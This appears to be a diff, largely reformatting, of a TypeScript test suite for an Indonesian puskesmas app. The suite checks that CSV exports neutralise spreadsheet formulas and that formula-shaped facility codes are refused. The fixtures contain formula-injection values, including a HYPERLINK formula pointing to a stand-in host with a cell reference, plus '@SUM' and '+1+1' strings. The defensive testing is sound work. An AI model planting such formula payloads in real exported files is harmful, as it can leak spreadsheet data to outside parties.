@@ -14,12 +14,23 @@ const ctx = useApp(async (database) => {
   await pool.query(`delete from ilp_wave_member; delete from ilp_wave; delete from ilp_stage; delete from readiness_answer;
     delete from pustu; delete from posyandu; delete from puskesmas_wilayah; delete from puskesmas; delete from rollout_event`);
   // Names as a hostile user (or data from before the kode rule) could have left them.
-  const { rows: [ev] } = await pool.query(`insert into rollout_event (oleh, kind, note) values ('uji', 'seed', 'fixture') returning id`);
-  await pool.query(`insert into puskesmas (kode, nama, kabupaten_kode, sumber) values ('1010001', $1, '99.01', 'uji'), ('@SUM(1)', $2, '99.01', 'uji')`,
-    [HOSTILE[0], HOSTILE[3]]);
-  await pool.query(`insert into puskesmas_wilayah (puskesmas_kode, desa_kode, valid_from, confirmed, event_id) values
-    ('1010001', '99.01.01.2001', '2025-01-01', true, $1), ('@SUM(1)', '99.01.01.2002', '2025-01-01', true, $1)`, [ev.id]);
-  for (const [kode, nama] of [['99.01.01', HOSTILE[1]], ['99.01.01.2001', HOSTILE[2]], ['99.01.01.2002', HOSTILE[4]]]) {
+  const {
+    rows: [ev],
+  } = await pool.query(`insert into rollout_event (oleh, kind, note) values ('uji', 'seed', 'fixture') returning id`);
+  await pool.query(
+    `insert into puskesmas (kode, nama, kabupaten_kode, sumber) values ('1010001', $1, '99.01', 'uji'), ('@SUM(1)', $2, '99.01', 'uji')`,
+    [HOSTILE[0], HOSTILE[3]],
+  );
+  await pool.query(
+    `insert into puskesmas_wilayah (puskesmas_kode, desa_kode, valid_from, confirmed, event_id) values
+    ('1010001', '99.01.01.2001', '2025-01-01', true, $1), ('@SUM(1)', '99.01.01.2002', '2025-01-01', true, $1)`,
+    [ev.id],
+  );
+  for (const [kode, nama] of [
+    ['99.01.01', HOSTILE[1]],
+    ['99.01.01.2001', HOSTILE[2]],
+    ['99.01.01.2002', HOSTILE[4]],
+  ]) {
     await pool.query('update wilayah set nama = $2 where kode = $1', [kode, nama]);
   }
 });
@@ -32,13 +43,17 @@ const csvOf = async (url: string) => {
 
 describe('formula starts are neutralised in every file the app writes', () => {
   it('the wilayah kerja CSV', async () => {
-    expect(await csvOf('/api/wilayah-kerja.csv?kabupaten=99.01')).toBe('kode_puskesmas,nama,kode_desa\r\n'
-      + '1010001,"\'=HYPERLINK(""http://contoh.test/?""&A3,""klik"")",99.01.01.2001\r\n'
-      + '\'@SUM(1),\'@SUM(A1:A9),99.01.01.2002\r\n');
+    expect(await csvOf('/api/wilayah-kerja.csv?kabupaten=99.01')).toBe(
+      'kode_puskesmas,nama,kode_desa\r\n' +
+        '1010001,"\'=HYPERLINK(""http://contoh.test/?""&A3,""klik"")",99.01.01.2001\r\n' +
+        "'@SUM(1),'@SUM(A1:A9),99.01.01.2002\r\n",
+    );
   });
 
   it('the CSV template (wilayah and desa names)', async () => {
-    const lines = (await csvOf('/api/templat?wilayah=99.01.01&periode=2026-09&indikator=KIA_K1&format=csv')).split('\r\n');
+    const lines = (await csvOf('/api/templat?wilayah=99.01.01&periode=2026-09&indikator=KIA_K1&format=csv')).split(
+      '\r\n',
+    );
     expect(lines[1]).toBe("wilayah,99.01.01,'+1+1");
     expect(lines.slice(6, 8)).toEqual(["99.01.01.2001,'-2+3", "99.01.01.2002,'\t=1"]);
   });
@@ -66,23 +81,40 @@ describe('formula starts are neutralised in every file the app writes', () => {
 });
 
 describe('a new puskesmas needs a kode of the documented form', () => {
-  const upload = (csv: string) => ctx.app.inject({ method: 'POST', url: '/api/wilayah-kerja/simpan?kabupaten=99.01&mulai=2026-12-01',
-    headers: { ...ctx.admin.headers, 'content-type': 'text/csv' }, payload: csv });
+  const upload = (csv: string) =>
+    ctx.app.inject({
+      method: 'POST',
+      url: '/api/wilayah-kerja/simpan?kabupaten=99.01&mulai=2026-12-01',
+      headers: { ...ctx.admin.headers, 'content-type': 'text/csv' },
+      payload: csv,
+    });
 
   it('a formula as kode is refused and nothing is written', async () => {
     const before = (await ctx.database.pool.query('select count(*)::int as n from puskesmas')).rows[0].n;
-    const res = await upload(`kode_puskesmas,nama,kode_desa\n"${HOSTILE[0]!.replace(/"/g, '""')}",Puskesmas Jahat,99.01.02.2001\n`);
+    const res = await upload(
+      `kode_puskesmas,nama,kode_desa\n"${HOSTILE[0]!.replace(/"/g, '""')}",Puskesmas Jahat,99.01.02.2001\n`,
+    );
     expect(res.statusCode).toBe(422);
-    expect(res.json().errors).toEqual([{ row: 2, column: 'kode_puskesmas', code: 'PUSKESMAS_KODE_INVALID',
-      message: 'Kode puskesmas "=HYPERLINK("http://contoh.test/?"&A3,"kl…" tidak dikenal dan tidak sah untuk puskesmas baru: '
-        + 'gunakan kode Komdat 7 angka (misalnya 1010453) atau kode Kemenkes huruf P dan 10 angka (misalnya P1210090201).' }]);
+    expect(res.json().errors).toEqual([
+      {
+        row: 2,
+        column: 'kode_puskesmas',
+        code: 'PUSKESMAS_KODE_INVALID',
+        message:
+          'Kode puskesmas "=HYPERLINK("http://contoh.test/?"&A3,"kl…" tidak dikenal dan tidak sah untuk puskesmas baru: ' +
+          'gunakan kode Komdat 7 angka (misalnya 1010453) atau kode Kemenkes huruf P dan 10 angka (misalnya P1210090201).',
+      },
+    ]);
     expect((await ctx.database.pool.query('select count(*)::int as n from puskesmas')).rows[0].n).toBe(before);
   });
 
   it('a Kemenkes kode with a hostile name is taken, and the name leaves the export as text', async () => {
     const res = await upload('kode_puskesmas,nama,kode_desa\nP9901020001,@SUM(A1),99.01.02.2001\n');
     expect(res.statusCode).toBe(200);
-    expect(res.json()).toMatchObject({ status: 'committed', newPuskesmas: [{ kode: 'P9901020001', nama: '@SUM(A1)' }] });
+    expect(res.json()).toMatchObject({
+      status: 'committed',
+      newPuskesmas: [{ kode: 'P9901020001', nama: '@SUM(A1)' }],
+    });
     expect(await csvOf('/api/wilayah-kerja.csv?kabupaten=99.01')).toContain("P9901020001,'@SUM(A1),99.01.02.2001\r\n");
   });
 });
